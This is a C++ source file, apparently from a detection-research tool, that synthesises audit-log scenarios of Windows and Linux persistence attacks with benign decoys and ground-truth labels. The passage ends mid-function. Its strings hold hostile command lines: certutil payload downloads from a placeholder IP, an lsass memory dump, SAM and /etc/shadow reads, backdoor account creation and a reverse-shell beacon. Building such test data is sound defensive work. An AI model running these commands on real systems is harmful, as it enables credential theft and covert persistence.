#include "persist_trace/scenario.hpp"

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <random>

#include "json.hpp"
#include "persist_trace/common.hpp"

namespace persist_trace {

namespace {

constexpr TimeMs kEpoch = 1750000000000LL;

constexpr const char* kServices = "c:\\windows\\system32\\services.exe";
constexpr const char* kSvchost = "c:\\windows\\system32\\svchost.exe";
constexpr const char* kLsass = "c:\\windows\\system32\\lsass.exe";
constexpr const char* kWinlogon = "c:\\windows\\system32\\winlogon.exe";
constexpr const char* kWininit = "c:\\windows\\system32\\wininit.exe";
constexpr const char* kExplorer = "c:\\windows\\explorer.exe";
constexpr const char* kWmiprvse = "c:\\windows\\system32\\wbem\\wmiprvse.exe";
constexpr const char* kCmd = "c:\\windows\\system32\\cmd.exe";
constexpr const char* kPowershell =
    "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe";
constexpr const char* kWinword = "c:\\program files\\microsoft office\\winword.exe";
constexpr const char* kSystemd = "/usr/lib/systemd/systemd";

// Event emitters return copies, not references: the backing vector reallocates
// as the stream grows.
class Emitter {
 public:
  explicit Emitter(std::uint64_t seed) : rng_(seed) {}

  std::vector<AuditEvent> events;
  std::vector<TruthRecord> truth;
  TimeMs now = kEpoch;

  std::uint64_t rand(std::uint64_t n) { return rng_() % n; }

  TimeMs tick(TimeMs lo = 5, TimeMs hi = 90) {
    now += lo + static_cast<TimeMs>(rand(static_cast<std::uint64_t>(hi - lo + 1)));
    return now;
  }
  void gap(TimeMs ms) { now += ms; }

  ProcessRef make_root(const std::string& host, std::string image, std::string cmdline) {
    ProcessRef p;
    p.guid = host + "-p" + std::to_string(guid_ctr_++);
    p.pid = pid_ctr_++;
    p.image = std::move(image);
    p.cmdline = std::move(cmdline);
    return p;
  }

  ProcessRef spawn(const std::string& host, const ProcessRef& parent, std::string image,
                   std::string cmdline) {
    ProcessRef child = make_root(host, std::move(image), std::move(cmdline));
    child.parent_guid = parent.guid;
    AuditEvent ev = base(host, EventType::ProcessCreate, parent);
    ev.object = child;
    push(std::move(ev));
    return child;
  }

  AuditEvent wr(const std::string& host, const ProcessRef& a, std::string path) {
    AuditEvent ev = base(host, EventType::FileWrite, a);
    ev.object = FileObject{std::move(path)};
    return push(std::move(ev));
  }
  AuditEvent rd(const std::string& host, const ProcessRef& a, std::string path) {
    AuditEvent ev = base(host, EventType::FileRead, a);
    ev.object = FileObject{std::move(path)};
    return push(std::move(ev));
  }
  AuditEvent del(const std::string& host, const ProcessRef& a, std::string path) {
    AuditEvent ev = base(host, EventType::FileDelete, a);
    ev.object = FileObject{std::move(path)};
    return push(std::move(ev));
  }
  AuditEvent rs(const std::string& host, const ProcessRef& a, std::string key, std::string vname,
                std::string value) {
    AuditEvent ev = base(host, EventType::RegSet, a);
    ev.object = RegistryObject{std::move(key), std::move(vname), std::move(value)};
    return push(std::move(ev));
  }
  AuditEvent rr(const std::string& host, const ProcessRef& a, std::string key, std::string vname,
                std::string value) {
    AuditEvent ev = base(host, EventType::RegRead, a);
    ev.object = RegistryObject{std::move(key), std::move(vname), std::move(value)};
    return push(std::move(ev));
  }
  AuditEvent ld(const std::string& host, const ProcessRef& a, std::string module) {
    AuditEvent ev = base(host, EventType::ModuleLoad, a);
    ev.object = ModuleObject{std::move(module)};
    return push(std::move(ev));
  }
  AuditEvent co(const std::string& host, const ProcessRef& a, std::string ip, int port) {
    AuditEvent ev = base(host, EventType::NetConnect, a);
    ev.object = EndpointObject{std::move(ip), port, "out"};
    return push(std::move(ev));
  }
  AuditEvent ac(const std::string& host, const ProcessRef& a, std::string ip, int port) {
    AuditEvent ev = base(host, EventType::NetAccept, a);
    ev.object = EndpointObject{std::move(ip), port, "in"};
    return push(std::move(ev));
  }
  AuditEvent mkacct(const std::string& host, const ProcessRef& a, std::string name, bool domain) {
    AuditEvent ev = base(host, EventType::AccountCreate, a);
    ev.object = AccountObject{std::move(name), domain, "", -1};
    return push(std::move(ev));
  }
  AuditEvent lg(const std::string& host, const ProcessRef& a, std::string name, bool domain,
                std::string src_ip, int src_port) {
    AuditEvent ev = base(host, EventType::Login, a);
    ev.object = AccountObject{std::move(name), domain, std::move(src_ip), src_port};
    return push(std::move(ev));
  }
  void kill(const std::string& host, const ProcessRef& a) {
    push(base(host, EventType::ProcessTerminate, a));
  }

  // Loopback chatter carries its own id space and clock so a corpus with and
  // without it keeps identical ids and order for the shared events.
  void ipc_pair(const std::string& host, const ProcessRef& from, const ProcessRef& to, TimeMs ts,
                int port) {
    AuditEvent c;
    c.id = next_ipc_id();
    c.ts = ts;
    c.host = host;
    c.type = EventType::NetConnect;
    c.actor = from;
    c.object = EndpointObject{"127.0.0.1", port, "out"};
    c.okey = object_key(c.type, c.object);
    events.push_back(std::move(c));
    AuditEvent a;
    a.id = next_ipc_id();
    a.ts = ts + 1;
    a.host = host;
    a.type = EventType::NetAccept;
    a.actor = to;
    a.object = EndpointObject{"127.0.0.1", port, "in"};
    a.okey = object_key(a.type, a.object);
    events.push_back(std::move(a));
  }

  void attack(std::string technique, const AuditEvent& setup, const AuditEvent& trigger,
              const ProcessRef& anchor, std::string category) {
    truth.push_back(TruthRecord{"attack", std::move(technique), setup.id, trigger.id, anchor.guid,
                                std::move(category)});
  }
  void mimic(std::string technique, const std::string& setup_id, const AuditEvent& trigger,
             const ProcessRef& anchor) {
    truth.push_back(
        TruthRecord{"mimic", std::move(technique), setup_id, trigger.id, anchor.guid, "causality"});
  }

 private:
  AuditEvent base(const std::string& host, EventType t, const ProcessRef& actor) {
    AuditEvent ev;
    ev.id = next_id();
    ev.ts = tick();
    ev.host = host;
    ev.type = t;
    ev.actor = actor;
    return ev;
  }

  AuditEvent push(AuditEvent ev) {
    ev.okey = object_key(ev.type, ev.object);
    events.push_back(ev);
    return ev;
  }

  std::string next_id() {
    char buf[16];
    std::snprintf(buf, sizeof buf, "e%07llu", static_cast<unsigned long long>(id_ctr_++));
    return buf;
  }
  std::string next_ipc_id() {
    char buf[18];
    std::snprintf(buf, sizeof buf, "ipc%07llu", static_cast<unsigned long long>(ipc_ctr_++));
    return buf;
  }

  std::mt19937_64 rng_;
  std::uint64_t id_ctr_ = 1;
  std::uint64_t ipc_ctr_ = 1;
  std::uint64_t guid_ctr_ = 1;
  int pid_ctr_ = 400;
};

// ---------------------------------------------------------------------------
// Hosts

struct WinHost {
  std::string name;
  ProcessRef wininit, services, svchost_sched, svchost_net, lsass, winlogon, explorer, wmiprvse;
};

WinHost boot_windows(Emitter& em, const std::string& name) {
  WinHost h;
  h.name = name;
  h.wininit = em.make_root(name, kWininit, "wininit.exe");
  h.winlogon = em.make_root(name, kWinlogon, "winlogon.exe");
  h.services = em.spawn(name, h.wininit, kServices, "services.exe");
  h.lsass = em.spawn(name, h.wininit, kLsass, "lsass.exe");
  h.svchost_sched = em.spawn(name, h.services, kSvchost, "svchost.exe -k netsvcs -p -s schedule");
  h.svchost_net = em.spawn(name, h.services, kSvchost, "svchost.exe -k networkservice");
  h.explorer = em.spawn(name, h.winlogon, kExplorer, "explorer.exe");
  h.wmiprvse = em.spawn(name, h.svchost_net, kWmiprvse, "wmiprvse.exe -secured");
  return h;
}

void shutdown_windows(Emitter& em, const WinHost& h) {
  for (const ProcessRef* p :
       {&h.wmiprvse, &h.explorer, &h.svchost_net, &h.svchost_sched, &h.lsass, &h.services})
    em.kill(h.name, *p);
}

struct NixHost {
  std::string name;
  ProcessRef systemd, sshd;
};

NixHost boot_linux(Emitter& em, const std::string& name) {
  NixHost h;
  h.name = name;
  h.systemd = em.make_root(name, kSystemd, "/usr/lib/systemd/systemd --system");
  h.sshd = em.spawn(name, h.systemd, "/usr/sbin/sshd", "sshd: listening");
  return h;
}

// ---------------------------------------------------------------------------
// Benign background activity

std::string pub_ip(Emitter& em) {
  return "93.184." + std::to_string(em.rand(200)) + "." + std::to_string(1 + em.rand(250));
}

void noise_browse(Emitter& em, const WinHost& h, int idx) {
  ProcessRef chrome = em.spawn(h.name, h.explorer, "c:\\program files\\google\\chrome.exe",
                               "chrome.exe --type=browser");
  int conns = 2 + static_cast<int>(em.rand(3));
  for (int i = 0; i < conns; ++i) em.co(h.name, chrome, pub_ip(em), 443);
  em.wr(h.name, chrome, "c:\\users\\u1\\appdata\\local\\chrome\\cache\\f_" + std::to_string(idx));
  em.rd(h.name, chrome, "c:\\users\\u1\\appdata\\local\\chrome\\cache\\f_" + std::to_string(idx));
  em.kill(h.name, chrome);
}

void noise_office(Emitter& em, const WinHost& h, int idx) {
  ProcessRef word = em.spawn(h.name, h.explorer, kWinword, "winword.exe");
  em.rd(h.name, word, "c:\\users\\u1\\documents\\report_" + std::to_string(idx) + ".docx");
  em.wr(h.name, word, "c:\\users\\u1\\documents\\report_" + std::to_string(idx) + ".docx");
  em.wr(h.name, word, "c:\\users\\u1\\appdata\\local\\temp\\~wrd" + std::to_string(idx) + ".tmp");
  em.del(h.name, word, "c:\\users\\u1\\appdata\\local\\temp\\~wrd" + std::to_string(idx) + ".tmp");
  em.kill(h.name, word);
}

void noise_system(Emitter& em, const WinHost& h, int idx) {
  em.rr(h.name, h.svchost_net, "hklm\\system\\currentcontrolset\\services\\tcpip\\parameters",
        "dhcpdomain", "corp.local");
  em.rs(h.name, h.svchost_sched, "hklm\\software\\microsoft\\windows nt\\currentversion\\svchost",
        "state", std::to_string(idx));
  em.wr(h.name, h.svchost_sched, "c:\\windows\\temp\\etl_" + std::to_string(idx) + ".log");
  em.co(h.name, h.svchost_net, "10.0.0." + std::to_string(2 + em.rand(250)), 445);
}

// A dropped-then-removed library; the delete suppresses any setup reading of
// the write.
void noise_transient_dll(Emitter& em, const WinHost& h, int idx) {
  ProcessRef setup = em.spawn(h.name, h.explorer, "c:\\users\\u1\\downloads\\setup.exe",
                              "setup.exe /quiet " + std::to_string(idx));
  std::string dll = "c:\\users\\u1\\appdata\\local\\temp\\inst" + std::to_string(idx) + ".dll";
  em.wr(h.name, setup, dll);
  em.ld(h.name, setup, dll);
  em.del(h.name, setup, dll);
  em.kill(h.name, setup);
}

void noise_linux(Emitter& em, const NixHost& h, int idx) {
  ProcessRef cron = em.spawn(h.name, h.systemd, "/usr/sbin/cron", "cron -f");
  ProcessRef job = em.spawn(h.name, cron, "/usr/bin/logrotate", "logrotate /etc/logrotate.conf");
  em.rd(h.name, job, "/var/log/syslog");
  em.wr(h.name, job, "/var/log/syslog.1." + std::to_string(idx));
  em.kill(h.name, job);
  em.kill(h.name, cron);
}

void sprinkle_noise(Emitter& em, WinHost& h, int rounds) {
  for (int i = 0; i < rounds; ++i) {
    switch (em.rand(4)) {
      case 0: noise_browse(em, h, i); break;
      case 1: noise_office(em, h, i); break;
      case 2: noise_system(em, h, i); break;
      case 3: noise_transient_dll(em, h, i); break;
    }
  }
}

// ---------------------------------------------------------------------------
// Post-compromise activity planted after the persistence install, under the
// same shell, where the investigation graph will pick it up.

void plant_cred_access(Emitter& em, const std::string& host, const ProcessRef& shell) {
  ProcessRef dump = em.spawn(host, shell, "c:\\users\\u1\\appdata\\local\\temp\\procdump.exe",
                             "procdump.exe -ma lsass.exe out.dmp");
  em.wr(host, dump, "c:\\users\\u1\\appdata\\local\\temp\\lsass.dmp");
  em.rd(host, dump, "c:\\windows\\system32\\config\\sam");
  em.kill(host, dump);
}

void plant_discovery(Emitter& em, const std::string& host, const ProcessRef& shell) {
  ProcessRef w = em.spawn(host, shell, "c:\\windows\\system32\\whoami.exe", "whoami /all");
  em.kill(host, w);
  ProcessRef i = em.spawn(host, shell, "c:\\windows\\system32\\ipconfig.exe", "ipconfig /all");
  em.kill(host, i);
}

void plant_discovery_linux(Emitter& em, const std::string& host, const ProcessRef& shell) {
  ProcessRef w = em.spawn(host, shell, "/usr/bin/whoami", "whoami");
  em.kill(host, w);
  ProcessRef u = em.spawn(host, shell, "/usr/bin/ipconfig", "ipconfig");
  em.kill(host, u);
}

void plant_remote_discovery(Emitter& em, const std::string& host, const ProcessRef& shell) {
  ProcessRef n = em.spawn(host, shell, "c:\\windows\\system32\\nltest.exe", "nltest /dclist:corp");
  em.kill(host, n);
}

void plant_tool_transfer(Emitter& em, const std::string& host, const ProcessRef& shell,
                         const std::string& tool_path) {
  ProcessRef c = em.spawn(host, shell, "c:\\windows\\system32\\certutil.exe",
                          "certutil.exe -urlcache -split -f http://203.0.113.77/t.bin " + tool_path);
  em.co(host, c, "203.0.113.77", 80);
  em.wr(host, c, tool_path);
  em.kill(host, c);
}

void plant_rat_install(Emitter& em, const std::string& host, const ProcessRef& shell) {
  em.wr(host, shell, "c:\\users\\u1\\appdata\\roaming\\anydesk\\anydesk.exe");
}

// ---------------------------------------------------------------------------
// Attacks. Setup first, post-compromise activity right after it, then the
// trigger fires (after a reboot where the mechanism needs one) and the
// payload's first beacon closes the loop.

// Doc macro writes a startup-folder shortcut; after reboot the shell revives
// through a staged loader before beaconing. With deep_foothold the document
// opens from a mail client, pushing the initial-access event one hop further
// from the install chain.
void attack_startup(Emitter& em, WinHost& h, bool deep_foothold) {
  ProcessRef word_parent = h.explorer;
  if (deep_foothold) {
    word_parent = em.spawn(h.name, h.explorer,
                           "c:\\program files\\microsoft office\\outlook.exe", "outlook.exe");
  }
  ProcessRef word =
      em.spawn(h.name, word_parent, kWinword, "winword.exe c:\\users\\u1\\downloads\\invoice.docx");
  ProcessRef ps = em.spawn(h.name, word, kPowershell, "powershell.exe -nop -enc zgbvag8a");
  std::string payload = "c:\\users\\u1\\appdata\\roaming\\hostui.exe";
  em.wr(h.name, ps, payload);
  std::string lnk =
      "c:\\users\\u1\\appdata\\roaming\\microsoft\\windows\\start menu\\programs\\startup\\hostui.lnk";
  AuditEvent setup = em.wr(h.name, ps, lnk);
  plant_cred_access(em, h.name, ps);
  plant_discovery(em, h.name, ps);

  em.gap(60000);
  shutdown_windows(em, h);
  em.gap(90000);
  h = boot_windows(em, h.name);

  AuditEvent trig = em.rd(h.name, h.explorer, lnk);
  ProcessRef hostui = em.spawn(h.name, h.explorer, payload, "hostui.exe /restore");
  em.ld(h.name, hostui, payload);
  ProcessRef c1 = em.spawn(h.name, hostui, kCmd, "cmd.exe /c updchk");
  ProcessRef c2 = em.spawn(h.name, c1, kPowershell, "powershell.exe -w hidden updchk");
  ProcessRef c3 =
      em.spawn(h.name, c2, "c:\\users\\u1\\appdata\\roaming\\updchk.exe", "updchk.exe --daemon");
  ProcessRef anchor = em.spawn(h.name, c3, kPowershell, "powershell.exe -enc ygblagewag8azq");
  em.co(h.name, anchor, "203.0.113.10", 443);
  em.attack("T1547.001", setup, trig, anchor, "causality");
}

void attack_runkey(Emitter& em, WinHost& h) {
  ProcessRef word =
      em.spawn(h.name, h.explorer, kWinword, "winword.exe c:\\users\\u1\\downloads\\resume.docm");
  ProcessRef cmd = em.spawn(h.name, word, kCmd, "cmd.exe /c install");
  std::string payload = "c:\\users\\u1\\appdata\\roaming\\updater.exe";
  em.wr(h.name, cmd, payload);
  ProcessRef reg = em.spawn(h.name, cmd, "c:\\windows\\system32\\reg.exe",
                            "reg.exe add hkcu\\software\\microsoft\\windows\\currentversion\\run "
                            "/v updater /d " + payload);
  AuditEvent setup = em.rs(
      h.name, reg, "hkcu\\software\\microsoft\\windows\\currentversion\\run", "updater", payload);
  em.kill(h.name, reg);
  plant_discovery(em, h.name, cmd);
  plant_cred_access(em, h.name, cmd);

  em.gap(60000);
  shutdown_windows(em, h);
  em.gap(90000);
  h = boot_windows(em, h.name);

  AuditEvent trig = em.rr(h.name, h.explorer,
                          "hkcu\\software\\microsoft\\windows\\currentversion\\run", "updater",
                          payload);
  ProcessRef anchor = em.spawn(h.name, h.explorer, payload, "updater.exe /background");
  em.ld(h.name, anchor, payload);
  em.co(h.name, anchor, "203.0.113.11", 443);
  em.attack("T1547.001", setup, trig, anchor, "causality");
}

void attack_task(Emitter& em, WinHost& h) {
  ProcessRef word =
      em.spawn(h.name, h.explorer, kWinword, "winword.exe c:\\users\\u1\\downloads\\quote.docm");
  ProcessRef cmd = em.spawn(h.name, word, kCmd, "cmd.exe /c setup");
  std::string payload = "c:\\users\\u1\\appdata\\roaming\\synchost.exe";
  em.wr(h.name, cmd, payload);
  ProcessRef st = em.spawn(h.name, cmd, "c:\\windows\\system32\\schtasks.exe",
                           "schtasks.exe /create /tn synchost /tr " + payload + " /sc onstart");
  AuditEvent setup = em.wr(h.name, st, "c:\\windows\\system32\\tasks\\synchost");
  em.kill(h.name, st);
  plant_discovery(em, h.name, cmd);

  em.gap(60000);
  shutdown_windows(em, h);
  em.gap(90000);
  h = boot_windows(em, h.name);

  AuditEvent trig = em.rd(h.name, h.svchost_sched, "c:\\windows\\system32\\tasks\\synchost");
  ProcessRef anchor = em.spawn(h.name, h.svchost_sched, payload, "synchost.exe");
  em.ld(h.name, anchor, payload);
  em.co(h.name, anchor, "203.0.113.12", 8443);
  em.attack("T1053.005", setup, trig, anchor, "causality");
}

void attack_webshell(Emitter& em, NixHost& h) {
  ProcessRef apache = em.spawn(h.name, h.systemd, "/usr/sbin/apache2", "apache2 -k start");
  ProcessRef worker = em.spawn(h.name, apache, "/usr/sbin/apache2", "apache2 -k worker");
  em.ac(h.name, worker, "198.51.100.40", 443);
  AuditEvent setup = em.wr(h.name, worker, "/var/www/html/uploads/cache.php");
  ProcessRef sh0 = em.spawn(h.name, worker, "/bin/sh", "sh -c recon");
  plant_discovery_linux(em, h.name, sh0);
  em.kill(h.name, sh0);

  em.gap(3600000);  // next request hits the dropped shell
  ProcessRef worker2 = em.spawn(h.name, apache, "/usr/sbin/apache2", "apache2 -k worker");
  em.ac(h.name, worker2, "198.51.100.41", 443);
  AuditEvent trig = em.rd(h.name, worker2, "/var/www/html/uploads/cache.php");
  ProcessRef anchor = em.spawn(h.name, worker2, "/bin/sh", "sh -c revshell");
  em.co(h.name, anchor, "203.0.113.13", 4444);
  em.attack("T1505.003", setup, trig, anchor, "causality");
}

void attack_dll_search(Emitter& em, WinHost& h) {
  ProcessRef word =
      em.spawn(h.name, h.explorer, kWinword, "winword.exe c:\\users\\u1\\downloads\\brief.docm");
  ProcessRef ps = em.spawn(h.name, word, kPowershell, "powershell.exe -nop -w hidden");
  std::string dll = "c:\\windows\\system32\\wptsextensions.dll";
  AuditEvent setup = em.wr(h.name, ps, dll);
  plant_cred_access(em, h.name, ps);

  em.gap(60000);
  shutdown_windows(em, h);
  em.gap(90000);
  h = boot_windows(em, h.name);

  ProcessRef victim = em.spawn(h.name, h.services, kSvchost, "svchost.exe -k apphost");
  AuditEvent trig = em.ld(h.name, victim, dll);
  em.co(h.name, victim, "203.0.113.14", 443);
  em.attack("T1574.001", setup, trig, victim, "causality");
}

void attack_dll_user(Emitter& em, WinHost& h) {
  ProcessRef word =
      em.spawn(h.name, h.explorer, kWinword, "winword.exe c:\\users\\u1\\downloads\\fax.docm");
  ProcessRef ps = em.spawn(h.name, word, kPowershell, "powershell.exe -nop plant");
  std::string dll = "c:\\program files\\acme\\version.dll";
  AuditEvent setup = em.wr(h.name, ps, dll);
  plant_discovery(em, h.name, ps);

  em.gap(60000);
  shutdown_windows(em, h);
  em.gap(90000);
  h = boot_windows(em, h.name);

  ProcessRef acme = em.spawn(h.name, h.explorer, "c:\\program files\\acme\\acme.exe", "acme.exe");
  AuditEvent trig = em.ld(h.name, acme, dll);
  em.co(h.name, acme, "203.0.113.15", 443);
  em.attack("T1574.002", setup, trig, acme, "causality");
}

void attack_external_tool(Emitter& em, WinHost& h) {
  ProcessRef word =
      em.spawn(h.name, h.explorer, kWinword, "winword.exe c:\\users\\u1\\downloads\\offer.docm");
  ProcessRef cmd = em.spawn(h.name, word, kCmd, "cmd.exe /c stage");
  std::string tool = "c:\\users\\u1\\appdata\\roaming\\rsvc.exe";
  ProcessRef cu = em.spawn(h.name, cmd, "c:\\windows\\system32\\certutil.exe",
                           "certutil.exe -urlcache -split -f http://203.0.113.77/r.bin " + tool);
  em.co(h.name, cu, "203.0.113.77", 80);
  AuditEvent setup = em.wr(h.name, cu, tool);
  em.kill(h.name, cu);
  plant_cred_access(em, h.name, cmd);
  ProcessRef rsvc = em.spawn(h.name, cmd, tool, "rsvc.exe -listen 3389");
  em.ld(h.name, rsvc, tool);

  em.gap(7200000);  // operator comes back much later
  AuditEvent trig = em.ac(h.name, rsvc, "203.0.113.16", 3389);
  em.attack("T1133", setup, trig, rsvc, "causality");
}

void attack_service(Emitter& em, WinHost& h) {
  ProcessRef word =
      em.spawn(h.name, h.explorer, kWinword, "winword.exe c:\\users\\u1\\downloads\\invoice2.docm");
  ProcessRef cmd = em.spawn(h.name, word, kCmd, "cmd.exe /c persist");
  std::string payload = "c:\\users\\u1\\appdata\\roaming\\badsvc.exe";
  em.wr(h.name, cmd, payload);
  ProcessRef sc = em.spawn(h.name, cmd, "c:\\windows\\system32\\sc.exe",
                           "sc.exe create badsvc binpath= " + payload + " start= auto");
  AuditEvent setup = em.rs(h.name, h.services, "hklm\\system\\currentcontrolset\\services\\badsvc",
                           "imagepath", payload);
  em.kill(h.name, sc);
  plant_cred_access(em, h.name, cmd);
  plant_discovery(em, h.name, cmd);

  em.gap(60000);
  shutdown_windows(em, h);
  em.gap(90000);
  h = boot_windows(em, h.name);

  AuditEvent trig = em.rr(h.name, h.services, "hklm\\system\\currentcontrolset\\services\\badsvc",
                          "imagepath", payload);
  ProcessRef anchor = em.spawn(h.name, h.services, payload, "badsvc.exe");
  em.ld(h.name, anchor, payload);
  em.co(h.name, anchor, "203.0.113.17", 443);
  em.attack("T1543.003", setup, trig, anchor, "causality");
}

void attack_wmi(Emitter& em, WinHost& h) {
  ProcessRef word =
      em.spawn(h.name, h.explorer, kWinword, "winword.exe c:\\users\\u1\\downloads\\shipping.docm");
  ProcessRef cmd = em.spawn(h.name, word, kCmd, "cmd.exe /c subscribe");
  std::string payload = "c:\\users\\u1\\appdata\\roaming\\wmipay.exe";
  em.wr(h.name, cmd, payload);
  ProcessRef wmic = em.spawn(
      h.name, cmd, "c:\\windows\\system32\\wbem\\wmic.exe",
      "wmic.exe /namespace:\\\\root\\subscription path commandlineeventconsumer create "
      "name=evilconsumer commandlinetemplate=" + payload);
  AuditEvent setup =
      em.wr(h.name, h.wmiprvse, "c:\\windows\\system32\\wbem\\repository\\consumers\\evilconsumer");
  em.kill(h.name, wmic);
  plant_cred_access(em, h.name, cmd);

  em.gap(60000);
  shutdown_windows(em, h);
  em.gap(90000);
  h = boot_windows(em, h.name);

  AuditEvent trig =
      em.rd(h.name, h.wmiprvse, "c:\\windows\\system32\\wbem\\repository\\consumers\\evilconsumer");
  ProcessRef anchor = em.spawn(h.name, h.wmiprvse, payload, "wmipay.exe");
  em.ld(h.name, anchor, payload);
  em.co(h.name, anchor, "203.0.113.18", 443);
  em.attack("T1546.003", setup, trig, anchor, "causality");
}

void attack_systemd(Emitter& em, NixHost& h) {
  em.ac(h.name, h.sshd, "198.51.100.50", 22);
  ProcessRef bash = em.spawn(h.name, h.sshd, "/bin/bash", "-bash");
  ProcessRef inst = em.spawn(h.name, bash, "/bin/sh", "sh ./install.sh");
  std::string payload = "/usr/local/bin/kworkerd";
  em.wr(h.name, inst, payload);
  AuditEvent setup = em.wr(h.name, inst, "/etc/systemd/system/kworkerd.service");
  em.rd(h.name, inst, "/etc/shadow");
  ProcessRef sh1 = em.spawn(h.name, inst, "/bin/sh", "sh -c recon");
  plant_discovery_linux(em, h.name, sh1);
  em.kill(h.name, sh1);

  em.gap(60000);
  em.kill(h.name, bash);
  em.gap(120000);
  h = boot_linux(em, h.name);

  AuditEvent trig = em.rd(h.name, h.systemd, "/sys/fs/cgroup/system.slice/kworkerd.service");
  ProcessRef anchor = em.spawn(h.name, h.systemd, payload, "kworkerd");
  em.ld(h.name, anchor, payload);
  em.co(h.name, anchor, "203.0.113.19", 443);
  em.attack("T1543.002", setup, trig, anchor, "causality");
}

void attack_account_local(Emitter& em, WinHost& h) {
  ProcessRef word =
      em.spawn(h.name, h.explorer, kWinword, "winword.exe c:\\users\\u1\\downloads\\payroll.docm");
  ProcessRef cmd = em.spawn(h.name, word, kCmd, "cmd.exe /c adduser");
  ProcessRef net = em.spawn(h.name, cmd, "c:\\windows\\system32\\net.exe",
                            "net.exe user support2 p@ss /add");
  AuditEvent setup = em.mkacct(h.name, net, "support2", false);
  em.kill(h.name, net);
  ProcessRef net2 = em.spawn(h.name, cmd, "c:\\windows\\system32\\net.exe",
                             "net.exe user backup9 p@ss /add");
  em.mkacct(h.name, net2, "backup9", false);
  em.kill(h.name, net2);
  plant_cred_access(em, h.name, cmd);
  plant_rat_install(em, h.name, cmd);

  em.gap(86400000);  // the operator returns a day later
  AuditEvent trig = em.lg(h.name, h.winlogon, "support2", false, "198.51.100.60", 55123);
  ProcessRef sess = em.spawn(h.name, h.winlogon, kCmd, "cmd.exe /q");
  em.co(h.name, sess, "203.0.113.20", 443);
  em.attack("T1136.001", setup, trig, sess, "correlation-type1");
}

void attack_account_domain(Emitter& em, WinHost& h) {
  ProcessRef word = em.spawn(h.name, h.explorer, kWinword,
                             "winword.exe c:\\users\\u1\\downloads\\directory.docm");
  ProcessRef cmd = em.spawn(h.name, word, kCmd, "cmd.exe /c addadmin");
  ProcessRef net = em.spawn(h.name, cmd, "c:\\windows\\system32\\net.exe",
                            "net.exe user svc_sync p@ss /add /domain");
  AuditEvent setup = em.mkacct(h.name, net, "svc_sync", true);
  em.kill(h.name, net);
  plant_remote_discovery(em, h.name, cmd);
  plant_tool_transfer(em, h.name, cmd, "c:\\users\\u1\\appdata\\local\\temp\\lat.exe");

  em.gap(43200000);  // lateral move from inside half a day later
  AuditEvent trig = em.lg(h.name, h.winlogon, "svc_sync", true, "10.0.5.5", 49811);
  ProcessRef sess = em.spawn(h.name, h.winlogon, kCmd, "cmd.exe /q");
  em.co(h.name, sess, "203.0.113.21", 443);
  em.attack("T1136.002", setup, trig, sess, "correlation-type2");
}

// ---------------------------------------------------------------------------
// Mimics: self-updating apps that register run keys and call their vendor
// after boot. Structurally identical to run-key persistence.

struct MimicPlant {
  std::string exe;
  std::string value_name;
  AuditEvent setup;
};

MimicPlant mimic_runkey_setup(Emitter& em, WinHost& h, int idx) {
  MimicPlant m;
  m.exe = "c:\\users\\u" + std::to_string(idx) +
          "\\appdata\\local\\microsoft\\onedrive\\onedrive.exe";
  m.value_name = "onedrive" + std::to_string(idx);
  ProcessRef od = em.spawn(h.name, h.explorer, m.exe, "onedrive.exe /background");
  m.setup = em.rs(h.name, od, "hkcu\\software\\microsoft\\windows\\currentversion\\run",
                  m.value_name, m.exe);
  em.kill(h.name, od);
  return m;
}

void mimic_runkey_fire(Emitter& em, WinHost& h, const MimicPlant& m, int idx) {
  AuditEvent trig =
      em.rr(h.name, h.explorer, "hkcu\\software\\microsoft\\windows\\currentversion\\run",
            m.value_name, m.exe);
  ProcessRef od = em.spawn(h.name, h.explorer, m.exe, "onedrive.exe /background");
  em.co(h.name, od, "20.190.160." + std::to_string(10 + idx), 443);
  em.mimic("T1547.001", m.setup.id, trig, od);
}

// ---------------------------------------------------------------------------
// Scenario assembly

GeneratedScenario finish(Emitter&& em, std::string name) {
  GeneratedScenario s;
  s.name = std::move(name);
  s.events = std::move(em.events);
  s.truth = std::move(em.truth);
  return s;
}

GeneratedScenario gen_single_windows(const std::string& name, std::uint64_t seed,
                                     void (*attack)(Emitter&, WinHost&)) {
  Emitter em(seed);
  WinHost h = boot_windows(em, "w1");
  sprinkle_noise(em, h, 6);
  attack(em, h);
  sprinkle_noise(em, h, 4);
  return finish(std::move(em), name);
}

GeneratedScenario gen_single_linux(const std::string& name, std::uint64_t seed,
                                   void (*attack)(Emitter&, NixHost&)) {
  Emitter em(seed);
  NixHost h = boot_linux(em, "lx1");
  noise_linux(em, h, 0);
  attack(em, h);
  noise_linux(em, h, 1);
  return finish(std::move(em), name);
}

GeneratedScenario gen_fig3(std::uint64_t seed) {
  Emitter em(seed);
  WinHost h = boot_windows(em, "w1");
  sprinkle_noise(em, h, 4);
  attack_startup(em, h, false);
  sprinkle_noise(em, h, 3);
  return finish(std::move(em), "fig3-startup");
}

// One attack plus one benign updater on a separate host: the smallest corpus
// where stage 2 over-approximates (2 edges) and stage 3 separates them.
GeneratedScenario gen_fig4(std::uint64_t seed, int mimic_count, const std::string& name) {
  Emitter em(seed);
  WinHost ha = boot_windows(em, "w1");
  WinHost hb = boot_windows(em, "w2");
  std::vector<MimicPlant> mb;
  for (int i = 0; i < mimic_count; ++i) mb.push_back(mimic_runkey_setup(em, hb, i));
  sprinkle_noise(em, ha, 3);
  sprinkle_noise(em, hb, 2);
  attack_startup(em, ha, false);
  em.gap(45000);
  shutdown_windows(em, hb);
  em.gap(90000);
  hb = boot_windows(em, hb.name);
  for (int i = 0; i < mimic_count; ++i) mimic_runkey_fire(em, hb, mb[i], i);
  sprinkle_noise(em, ha, 2);
  return finish(std::move(em), name);
}

GeneratedScenario gen_noise_only(std::uint64_t seed) {
  Emitter em(seed);
  WinHost h = boot_windows(em, "w1");
  sprinkle_noise(em, h, 8);
  NixHost lx = boot_linux(em, "lx1");
  noise_linux(em, lx, 0);
  sprinkle_noise(em, h, 4);
  noise_linux(em, lx, 1);
  return finish(std::move(em), "noise-only");
}

GeneratedScenario gen_mimic_field(std::uint64_t seed) {
  Emitter em(seed);
  WinHost ha = boot_windows(em, "w1");
  WinHost hb = boot_windows(em, "w2");
  std::vector<MimicPlant> ma, mb;
  for (int i = 0; i < 10; ++i) ma.push_back(mimic_runkey_setup(em, ha, i));
  for (int i = 0; i < 10; ++i) mb.push_back(mimic_runkey_setup(em, hb, i));
  sprinkle_noise(em, ha, 3);
  sprinkle_noise(em, hb, 3);

  // Each attack reboots its host; its payload beacons first, then the mimic
